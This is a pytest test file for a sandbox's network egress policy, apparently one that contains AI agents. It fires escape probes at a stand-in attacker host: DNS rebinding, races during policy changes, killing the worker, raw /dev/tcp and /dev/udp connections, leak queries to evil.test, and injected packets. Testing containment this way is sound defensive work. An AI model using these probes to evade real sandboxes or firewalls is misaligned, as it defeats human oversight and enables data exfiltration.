# SPDX-License-Identifier: Apache-2.0
"""Runs the table of probes.py, and the attempts that need more than one command: rebinding, races, deaths.

FW-080 FW-180 FW-185 FW-186 FW-187 SB-003 SB-004 R-020 R-081 R-082 R-086 R-088 R-089 R-093 R-095 R-096 R-097.
"""

import os
import re
import signal
import subprocess
import sys
import threading

import pytest

HERE = os.path.dirname(os.path.realpath(__file__))
sys.path.insert(0, os.path.dirname(HERE))
sys.path.insert(0, HERE)
import probes  # noqa: E402
from harness import ALLOW_ALL, DENY_ALL, domains, ranges, wait_for  # noqa: E402

ADDRESSES = {
    "v4": {"a": "198.18.66.6", "web": "198.18.0.10", "node": "198.18.200.2", "own": "198.18.66.77", "neighbour": "10.209.0.10",
           "stranger": "8.8.8.8", "loopback": "127.0.0.1"},
    "v6": {"a": "2001:db8:66::6", "web": "2001:db8::10", "node": "2001:db8:200::2", "own": "2001:db8:66::77",
           "neighbour": "fd53:616c:6c79:2::2", "stranger": "2001:4860:4860::8888", "loopback": "::1"},
}
NAMED = re.compile(r"\{(a|web|node|gw|own|neighbour|stranger|loopback)\}")


def runs(only=None):
    for probe in probes.PROBES:
        if only is not None and probe[0] not in only:
            continue
        for family in ("v4", "v6") if NAMED.search(probe[3]) else ("",):
            yield pytest.param(*probe, family or "v4", id=f"{probe[0]} {family} [{probe[1]}, {probe[2]}]")


class Guest:
    """A sandbox with the tool box in it, and a door to its network namespace for privileged packets."""

    def __init__(self, box):
        self.box = box
        with open(f"{HERE}/gadgets.py") as file:
            put = box.run("python3", "-c", "import sys; open('/tmp/gadgets.py','w').write(sys.argv[1])", file.read())
        assert put.code == 0, put.err
        self.gateway = {family: box.sh(f"ip -{family[1]} route show default | sed 's/.*via \\([^ ]*\\).*/\\1/' | head -1").out.strip()
                        for family in ("v4", "v6")}
        assert all(self.gateway.values())

    def netns(self):
        """Of the agent, PID 1 inside: found by the cgroup that carries the session's id."""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cgroup") as file:
                    ours = self.box.id in file.read()
                with open(f"/proc/{pid}/status") as file:
                    nested = re.search(r"^NSpid:\s+\d+\s+1$", file.read(), re.M)
            except OSError:
                continue
            if ours and nested:
                return f"/proc/{pid}/ns/net"
        raise AssertionError("no process of the sandbox found on the host")

    def attempt(self, where, command, family):
        words = {**ADDRESSES[family], "gw": self.gateway[family]}
        command = NAMED.sub(lambda match: words[match.group(1)], command)
        if where == "inside":
            line = command[4:] if command.startswith("sh: ") else f"$G {command}"
            ran = self.box.run("bash", "-c", line, sudo=True, env={"G": "python3 /tmp/gadgets.py"}, patience=120)
            return ran.out, ran.err
        done = subprocess.run(["nsenter", f"--net={self.netns()}", "--", "/usr/bin/python3", f"{HERE}/gadgets.py", *command.split()],
                              capture_output=True, text=True, timeout=120)
        return done.stdout, done.stderr


@pytest.fixture
def guest(sandbox):
    return lambda policy: Guest(sandbox(policy))


@pytest.fixture(scope="module", autouse=True)
def other_daemon_doors(node):
    """The daemon's socket has the same owner, mode and inode afterwards."""
    before = os.stat(node.socket)
    yield
    after = os.stat(node.socket)
    assert (before.st_ino, before.st_mode, before.st_uid) == (after.st_ino, after.st_mode, after.st_uid)


def nothing_got_out(node):
    assert node.attacker_packets() == [], "packets at the attacker"
    assert node.canary.lines() == [], "connections to the node's services"
    assert node.queries("evil.test") == [], "queries for the attacker's zone"


def test_the_table_is_long_enough():
    assert len(probes.PROBES) >= 60
    assert probes.SEEN_WHEN_OPEN <= {probe[0] for probe in probes.PROBES}


@pytest.mark.parametrize("what,where,policy,command,family", runs())
def test_no_probe_gets_out(guest, node, what, where, policy, command, family):
    out, err = guest(probes.POLICIES[policy]).attempt(where, command, family)
    assert "tried" in out, f"the probe itself failed: {out} {err}"
    assert "open" not in out
    nothing_got_out(node)


@pytest.mark.parametrize("what,where,policy,command,family", runs(probes.SEEN_WHEN_OPEN))
def test_the_attacker_sees_the_same_probe_when_everything_is_allowed(guest, node, what, where, policy, command, family):
    guest(ALLOW_ALL).attempt(where, command, family)
    assert node.attacker_packets(), "this probe proves nothing"


# The recorder works: one datagram through an allowed range is one packet in the log.
@pytest.mark.parametrize("address", ["198.18.66.6", "2001:db8:66::6"])
def test_the_recorder_sees_one_packet(guest, node, address):
    out, _ = guest(ranges("198.18.66.0/24", "2001:db8:66::/64")).attempt("inside", f"udp {address} 4000 leak 1", "v4")
    seen = node.attacker_packets()
    assert "tried" in out and len(seen) == 1
    assert (seen[0]["destination"], seen[0]["ports"][1]) == (address, 4000)


# The canary works: the node itself reaches its services.
def test_the_canary_sees_a_connection(node):
    node.mark()
    node.lab("node", "nc", "-z", "-w", "2", "198.18.200.2", "22")
    wait_for(node.canary.lines, "the canary's line")


# a name whose addresses alternate between an allowed one and the host's.
@pytest.mark.slow
@pytest.mark.parametrize("name", ["rebind.example", "rebind-self.example", "rebind6.example", "metadata.example", "node.example",
                                  "loopback.example", "mapped.example", "nat64.example", "pool.example"])
def test_rebinding(guest, node, name):
    it = guest(domains(name))
    out, err = it.attempt("inside", f"sh: for n in $(seq 15); do $G tls {{web}} 443 {name}; done", "v6" if "6" in name else "v4")
    assert out.count("tried") == 15, err
    nothing_got_out(node)


# R-095 R-099: while the policy changes all the time, between policies of which none allows the attacker.
@pytest.mark.slow
def test_policy_changes_open_no_gap(guest, node):
    it = guest(DENY_ALL)
    program = it.box.start("bash", "-c", "end=$((SECONDS+12)); while [ $SECONDS -lt $end ]; do $G tls 198.18.66.6 443 evil.test; $G udp 198.18.66.6 443 leak;"
                           " $G tcp 2001:db8:66::6 443 x; $G ping 2001:db8:66::6; $G dns 198.18.66.6 plain leak.evil.test; done; echo done",
                           env={"G": "python3 /tmp/gadgets.py"})
    kernel = threading.Thread(target=lambda: [it.attempt("kernel", "inject {a}", family) for _ in range(6) for family in ("v4", "v6")])
    kernel.start()
    choices = [probes.POLICIES[name] for name in ("deny-all", "domain", "near", "postgres", "empty", "catch-all")]  # all deny evil.test
    count = 0
    while not program.ended:
        it.box.set_policy(choices[count % len(choices)])
        count += 1
    kernel.join()
    assert "done" in program.wait().out and count > 20
    nothing_got_out(node)


# the worker is killed again and again.
@pytest.mark.slow
def test_deaths_of_the_worker_open_no_gap(guest, node):
    it = guest(domains("allowed.example"))
    program = it.box.start("bash", "-c", "end=$((SECONDS+8)); while [ $SECONDS -lt $end ]; do $G tls 198.18.66.6 443 evil.test; $G tcp 2001:db8:66::6 80 x;"
                           " $G udp 198.18.66.6 443 leak; $G dns 2001:db8:66::6 plain leak.evil.test; done; echo done", env={"G": "python3 /tmp/gadgets.py"})
    killed = 0
    while not program.ended:
        worker = it.box.worker_pid()
        if worker:
            try:
                os.kill(worker, signal.SIGKILL)
                killed += 1
            except ProcessLookupError:
                pass
        try:
            wait_for(lambda: program.ended or it.box.worker_pid() not in (None, worker), "a new worker", 60)
        except AssertionError:
            break
    assert "done" in program.wait().out and killed >= 2
    nothing_got_out(node)


# FW-008 R-096: the first instructions of many sandboxes.
@pytest.mark.slow
def test_the_first_instructions_of_many_sandboxes_meet_the_policy(sandbox, node):
    for _ in range(8):
        box = sandbox(DENY_ALL)
        box.run("bash", "-c", "exec 3<>/dev/udp/198.18.66.6/443 && echo x >&3; exec 4<>/dev/tcp/198.18.66.6/443; exec 5<>/dev/tcp/2001:db8:66::6/443", sudo=True)
    nothing_got_out(node)


# SB-003: two sandboxes that both want to.
def test_two_willing_sandboxes_cannot_meet(guest, node):
    server, client = guest(ranges("0.0.0.0/0", "::/0")), guest(ranges("0.0.0.0/0", "::/0"))
    listener = server.box.start("python3", "-c", "import socket,select\n"
                                "t=socket.create_server(('::',8000),family=10,dualstack_ipv6=True)\n"
                                "u=socket.socket(10,2); u.setsockopt(41,26,0); u.bind(('::',8000))\n"
                                "print('ready',flush=True)\n"
                                "r,_,_=select.select([t,u],[],[],8); print('touched' if r else 'quiet')")
    listener.until("ready")
    addresses = server.box.sh("ip -o addr show dev eth0 | sed 's/.*inet6\\? \\([^/]*\\).*/\\1/'").out.split()
    for address in addresses:
        target = address + "%eth0" if address.startswith("fe80") else address
        client.attempt("inside", f"sh: $G tcp {target} 8000 x; $G udp {target} 8000 x", "v4")
        if not address.startswith("fe80"):
            client.attempt("kernel", f"inject {address}", "v4")
    assert "quiet" in listener.wait(30).out
